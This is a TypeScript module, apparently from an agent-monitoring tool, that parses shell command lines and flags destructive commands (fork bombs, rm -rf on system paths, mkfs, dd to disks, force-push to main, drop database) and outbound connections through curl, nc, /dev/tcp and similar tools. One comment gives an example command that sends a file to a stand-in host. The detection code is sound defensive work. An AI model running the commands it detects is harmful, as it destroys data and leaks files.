/**
 * @module features/alerts/shell
 * Just enough shell to find what a command line runs: a linear lexer (quotes, escapes,
 * separators, redirects, `sh -c '…'` and `eval` one level down at a time) and the checks the
 * built-in rules need. It is deliberately not a shell: no expansion, no aliases. A finding has to
 * be visible in the text the agent sent, which keeps false positives low and every check linear
 * (no backtracking regex runs over the command, so a hostile command cannot stall the consumer).
 */

export interface Segment {
  /** Words with quotes removed, redirect targets excluded. */
  words: string[]
  /** Targets of `>` / `>>` redirects. */
  redirects: string[]
}

/** Longer commands are checked on their first 64 KiB. */
export const MAX_COMMAND_CHARS = 64 * 1024
const MAX_SEGMENTS = 2000
const MAX_NESTING = 3

const SEPARATORS = new Set([';', '&', '|', '\n', '(', ')', '`'])

/** Splits a command line into simple commands (segments), descending into `sh -c` and `eval`. */
export function parseShell(text: string, depth = 0): Segment[] {
  const src = text.length > MAX_COMMAND_CHARS ? text.slice(0, MAX_COMMAND_CHARS) : text
  const segments: Segment[] = []
  let seg: Segment = { words: [], redirects: [] }
  let word: string | null = null
  let redirectNext = false
  const endWord = () => {
    if (word === null) return
    if (redirectNext) seg.redirects.push(word)
    else seg.words.push(word)
    word = null
    redirectNext = false
  }
  const endSegment = () => {
    endWord()
    redirectNext = false
    if (seg.words.length > 0 || seg.redirects.length > 0) segments.push(seg)
    seg = { words: [], redirects: [] }
  }
  for (let i = 0; i < src.length && segments.length < MAX_SEGMENTS; i++) {
    const ch = src[i]!
    if (ch === ' ' || ch === '\t' || ch === '\r') {
      endWord()
    } else if (SEPARATORS.has(ch) || (ch === '$' && src[i + 1] === '(')) {
      if (ch === '$') i++
      endSegment()
    } else if (ch === '>' || ch === '<') {
      // `2>` names a descriptor, not a word; `>&1` duplicates one and has no file target.
      if (word !== null && /^\d+$/.test(word)) word = null
      endWord()
      if (src[i + 1] === '>') i++
      if (src[i + 1] === '&') {
        i++
        while (i + 1 < src.length && /[\d-]/.test(src[i + 1]!)) i++
      } else if (ch === '>') {
        redirectNext = true
      }
    } else if (ch === '#' && word === null) {
      while (i + 1 < src.length && src[i + 1] !== '\n') i++
    } else if (ch === "'") {
      const end = src.indexOf("'", i + 1)
      const stop = end === -1 ? src.length : end
      word = (word ?? '') + src.slice(i + 1, stop)
      i = stop
    } else if (ch === '"') {
      let out: string = word ?? ''
      let j = i + 1
      for (; j < src.length && src[j] !== '"'; j++) {
        if (src[j] === '\\' && j + 1 < src.length && '"\\$`'.includes(src[j + 1]!)) j++
        out += src[j]
      }
      word = out
      i = j
    } else if (ch === '\\') {
      if (i + 1 < src.length && src[i + 1] !== '\n') word = (word ?? '') + src[i + 1]
      i++
    } else {
      word = (word ?? '') + ch
    }
  }
  endSegment()
  if (depth >= MAX_NESTING) return segments
  const nested: Segment[] = []
  for (const s of segments) {
    const cmd = commandOf(s)
    if (!cmd) continue
    if (SHELLS.has(cmd.name)) {
      const flag = cmd.args.findIndex((a) => /^-[A-Za-z]*c[A-Za-z]*$/.test(a))
      const script = flag === -1 ? undefined : cmd.args[flag + 1]
      if (script !== undefined) nested.push(...parseShell(script, depth + 1))
    } else if (cmd.name === 'eval' && cmd.args.length > 0) {
      nested.push(...parseShell(cmd.args.join(' '), depth + 1))
    }
  }
  return nested.length > 0 ? segments.concat(nested) : segments
}

const SHELLS = new Set(['sh', 'bash', 'zsh', 'dash', 'ksh', 'fish'])

/** Words that run the next word as the command. */
const PREFIXES = new Set([
  'sudo',
  'doas',
  'env',
  'nohup',
  'time',
  'exec',
  'command',
  'builtin',
  'nice',
  'ionice',
  'xargs',
  'timeout',
  'stdbuf',
  'unbuffer',
  'then',
  'do',
  'else',
  'if',
  'while',
  'until',
  '!',
  '{',
  '}',
])
/** Prefix options that take a value (`sudo -u root`, `nice -n 5`). */
const PREFIX_VALUE_FLAGS = new Set(['-u', '-g', '-C', '-D', '-p', '-r', '-t', '-U', '-n', '-c', '-s', '-k'])

export function basename(word: string): string {
  const slash = Math.max(word.lastIndexOf('/'), word.lastIndexOf('\\'))
  return slash === -1 ? word : word.slice(slash + 1)
}

/** The command a segment runs (its basename, lower-cased) and its arguments, past `sudo`, `env X=1` and the like. */
export function commandOf(seg: Segment): { name: string; args: string[] } | null {
  const w = seg.words
  let i = 0
  while (i < w.length) {
    const word = w[i]!
    if (/^[A-Za-z_][A-Za-z0-9_]*=/.test(word)) {
      i++
      continue
    }
    const name = basename(word).toLowerCase()
    if (!PREFIXES.has(name)) return { name, args: w.slice(i + 1) }
    // `command -v curl` only asks where curl is.
    if (name === 'command' && (w[i + 1] === '-v' || w[i + 1] === '-V')) return null
    i++
    while (i < w.length && w[i]!.startsWith('-')) i += PREFIX_VALUE_FLAGS.has(w[i]!) ? 2 : 1
    if (name === 'timeout' && i < w.length && /^\d/.test(w[i]!)) i++
  }
  return null
}

// ---- destructive commands -------------------------------------------------------------------

const SYSTEM_DIRS = new Set([
  'bin',
  'boot',
  'dev',
  'etc',
  'home',
  'lib',
  'lib64',
  'opt',
  'proc',
  'root',
  'sbin',
  'srv',
  'sys',
  'usr',
  'var',
  'Users',
  'System',
  'Library',
  'Applications',
  'Volumes',
  'private',
])

/**
 * A path whose removal loses a machine or a home directory: `/`, `~`, `$HOME`, a top-level system
 * directory (`/etc`, `/usr`, `/Users`…) or a whole home (`/home/alice`, `/Users/alice`), each also
 * with a trailing `/`, `/*` or `/.`. Anything narrower (`./build`, `~/project/dist`, `/tmp/x`) is not.
 */
export function isBroadPath(raw: string): boolean {
  let p = raw
  while (/(?:\/\*|\/\.|\/)$/.test(p) && p.length > 0) p = p.replace(/(?:\/\*|\/\.|\/)$/, '')
  if (p === '' && raw.startsWith('/')) return true
  if (p === '~' || p === '$HOME' || p === '${HOME}') return true
  const parts = p.split('/')
  if (parts[0] !== '' || parts.length < 2) return false
  if (parts.length === 2) return SYSTEM_DIRS.has(parts[1]!)
  return parts.length === 3 && (parts[1] === 'home' || parts[1] === 'Users') && parts[2] !== '' && !parts[2]!.includes('*')
}

const BLOCK_DEVICE = /^\/dev\/(?:sd[a-z]|hd[a-z]|vd[a-z]|xvd[a-z]|nvme\d|mmcblk\d|disk\d|rdisk\d|md\d|dm-\d|mapper\/)/
const SQL_CLIENTS = new Set(['psql', 'mysql', 'mariadb', 'sqlite3', 'cockroach', 'clickhouse-client', 'sqlcmd'])
const OPEN_MODES = new Set(['777', '0777', 'a+rwx', 'ugo+rwx', 'a=rwx'])

export interface ShellFinding {
  /** Which check matched (`rm_recursive_broad`, `mkfs`, `dd_to_device`…). */
  check: string
  /** The offending simple command, as words. */
  detail: string
}

/** The first destructive command in `segments` (see docs/alert-rules.md for the exact list). */
export function findDestructive(text: string, segments: Segment[]): ShellFinding | null {
  if (hasForkBomb(text)) return { check: 'fork_bomb', detail: text.slice(0, 200) }
  let sqlClient = false
  for (const seg of segments) {
    const detail = () => seg.words.join(' ').slice(0, 200)
    for (const r of seg.redirects) if (BLOCK_DEVICE.test(r)) return { check: 'write_to_device', detail: `${detail()} > ${r}` }
    const cmd = commandOf(seg)
    if (!cmd) continue
    const { name, args } = cmd
    const flags = args.filter((a) => a.startsWith('-'))
    const operands = args.filter((a) => !a.startsWith('-'))
    const shortFlags = flags.filter((f) => !f.startsWith('--')).join('')
    if (name === 'rm') {
      const recursive = /[rR]/.test(shortFlags) || flags.includes('--recursive')
      if (flags.includes('--no-preserve-root') || (recursive && operands.some(isBroadPath))) {
        return { check: 'rm_recursive_broad', detail: detail() }
      }
    } else if (/^mkfs(?:\..+)?$/.test(name) || name === 'mke2fs') {
      return { check: 'mkfs', detail: detail() }
    } else if (name === 'dd') {
      if (args.some((a) => a.startsWith('of=') && BLOCK_DEVICE.test(a.slice(3))))
        return { check: 'dd_to_device', detail: detail() }
    } else if (name === 'chmod') {
      const recursive = /R/.test(shortFlags) || flags.includes('--recursive')
      if (recursive && operands.some((o) => OPEN_MODES.has(o)) && operands.some(isBroadPath)) {
        return { check: 'chmod_world_writable_broad', detail: detail() }
      }
    } else if (name === 'git' && isForcePushToMain(args)) {
      return { check: 'force_push_main', detail: detail() }
    } else if (name === 'dropdb') {
      return { check: 'drop_database', detail: detail() }
    }
    if (SQL_CLIENTS.has(name)) sqlClient = true
  }
  if (sqlClient && /\bdrop\s+database\b/i.test(text.slice(0, MAX_COMMAND_CHARS))) {
    return { check: 'drop_database', detail: text.slice(0, 200) }
  }
  return null
}

/** `git [-C dir] push` with `--force`/`-f` or a `+` refspec, naming `main` or `master` as the target. */
function isForcePushToMain(args: string[]): boolean {
  let i = 0
  while (i < args.length && args[i]!.startsWith('-')) i += args[i] === '-C' || args[i] === '-c' ? 2 : 1
  if (args[i] !== 'push') return false
  const rest = args.slice(i + 1)
  const short = rest.filter((a) => /^-[A-Za-z]+$/.test(a)).join('')
  const refspecs = rest.filter((a) => !a.startsWith('-'))
  const force = rest.includes('--force') || short.includes('f') || refspecs.some((r) => r.startsWith('+'))
  const main = refspecs.slice(1).some((r) => /^\+?(?:[^:]*:)?(?:refs\/heads\/)?(?:main|master)$/.test(r))
  return force && main
}

/** `:(){ :|:& };:` and the same shape under any function name, whitespace ignored. */
function hasForkBomb(text: string): boolean {
  const s = text.slice(0, MAX_COMMAND_CHARS).replace(/\s+/g, '')
  let at = s.indexOf('(){')
  while (at !== -1) {
    let start = at
    while (start > 0 && at - start < 64 && /[\w:.-]/.test(s[start - 1]!)) start--
    const name = s.slice(start, at)
    if (name && s.startsWith(`${name}|${name}&};${name}`, at + 3)) return true
    at = s.indexOf('(){', at + 3)
  }
  return false
}

// ---- outbound network -----------------------------------------------------------------------

const NETWORK_COMMANDS = new Set(['curl', 'wget', 'nc', 'ncat', 'netcat', 'socat', 'scp', 'sftp', 'ftp', 'telnet'])

const LOOPBACK =
  /^(?:[a-z][a-z0-9+.-]*:\/\/)?(?:[^@/\s]*@)?(?:localhost|127(?:\.\d{1,3}){3}|\[::1\]|::1|0\.0\.0\.0)(?::\d+)?(?:[/?#].*)?$/i

/** True when a host or URL string names this machine. */
export function isLoopback(value: string): boolean {
  return value.length <= 2048 && LOOPBACK.test(value)
}

/**
 * Values that only ever point at this machine: at least one loopback host or URL and no other
 * URL. `curl localhost:3000/api` is local; `curl -d @x https://evil.example` is not.
 */
export function onlyLoopback(values: string[]): boolean {
  let loop = false
  for (const v of values) {
    if (isLoopback(v)) loop = true
    else if (v.includes('://')) return false
  }
  return loop
}

/** The first simple command that opens an outbound connection (curl, wget, nc, scp, /dev/tcp…). */
export function findOutbound(segments: Segment[]): string | null {
  for (const seg of segments) {
    const cmd = commandOf(seg)
    const devTcp = [...seg.words, ...seg.redirects].some((w) => /^\/dev\/(?:tcp|udp)\/(.+)/.test(w) && !isLoopback(w.slice(9)))
    if (devTcp || (cmd && NETWORK_COMMANDS.has(cmd.name) && !onlyLoopback(cmd.args))) {
      return seg.words.join(' ').slice(0, 200)
    }
  }
  return null
}
